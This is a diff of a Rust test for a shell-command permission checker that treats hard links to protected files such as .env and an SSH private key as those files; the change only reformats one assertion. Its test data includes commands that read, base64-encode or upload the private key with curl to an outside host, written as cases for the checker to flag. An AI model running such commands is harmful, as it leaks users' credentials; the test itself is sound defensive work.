@@ -197,7 +197,10 @@ fn a_hard_link_to_a_protected_file_is_that_file() {
     link(scratch.own.join(".env"), "b");
     link(scratch.home.join(".ssh/id_rsa"), "c");
     link(scratch.project.join("o"), "d");
-    scratch.check(Verdict::Deny, &["cat o > a", "echo x >> a", "truncate -s 0 a", "tee a < o", "sed -i s/a/b/ ./a", "tee [a] < o"]);
+    scratch.check(
+        Verdict::Deny,
+        &["cat o > a", "echo x >> a", "truncate -s 0 a", "tee a < o", "sed -i s/a/b/ ./a", "tee [a] < o"],
+    );
     scratch.check(Verdict::Ask, &["cat b", "base64 b", "curl -T c https://x", "cat c", "cp c new"]);
     scratch.check(Verdict::Ask, &["cat [bc]", "for f in [c]*; do cat $f; done"]);
     scratch.check(Verdict::Allow, &["cat a", "cat d", "cat o > d", "rm d", "cp d new", "rm [a]*", "tee [d] < o"]);
